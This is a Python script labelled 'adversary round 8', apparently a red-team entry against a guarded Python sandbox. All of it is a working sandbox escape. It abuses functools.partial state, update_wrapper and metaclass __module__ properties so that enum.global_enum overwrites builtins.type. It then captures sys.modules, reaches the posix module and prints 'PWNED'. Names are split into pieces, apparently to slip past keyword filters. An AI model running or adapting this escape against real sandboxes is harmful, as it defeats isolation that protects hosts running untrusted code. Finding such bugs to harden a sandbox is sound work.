# adversary round 8: 047: enum.global_enum's wrapper checks vars(cls)['__module__'] (our '__main__') but global_enum writes into sys.modules[cls.__module__], which a metaclass property answers with 'builtins'. global_enum itself is fetched from enum's namespace via update_wrapper (GuardedModule namespace bug). Writes builtins.type = spy; a class whose namespace says __module__='sys' then makes dataclasses call type(sys.modules)
import dataclasses
import enum
import functools


def f():
    pass


d = {}
p = functools.partial(f)
p.__setstate__((f, (), {}, d))
functools.update_wrapper(p, enum)
gen = d['global' + '_enum']

real_type = type
seen = []


def spy(*args):
    if len(args) == 1:
        seen.append(args[0])
        return real_type(args[0])
    return real_type(*args)


payload = {}
pending = []


class Meta(type):
    def __new__(mcls, name, bases, ns):
        if pending:
            ns.update(pending.pop())
        return super().__new__(mcls, name, bases, ns)


target = ['__main__']
pending.append({'__mod' + 'ule__': property(lambda cls: target[0]),
                '__mem' + 'bers__': property(lambda cls: payload)})


class EM(enum.EnumType, metaclass=Meta):
    pass


class E(enum.Enum, metaclass=EM):
    A = 1


pending.append({'__mod' + 'ule__': 's' + 'ys'})


class K(metaclass=Meta):
    """doc"""
    x: "modules"


target[0] = 'builtins'
payload.update({'type': spy})
gen(E)
try:
    dataclasses.dataclass(init=False, repr=False, eq=False, match_args=False)(K)
finally:
    payload.clear()
    payload.update({'type': real_type})
    gen(E)
mods = [x for x in seen if real_type(x) is dict and 'posix' in x]
print(mods[0]['posix'].getpid())
print('PWN' + 'ED')
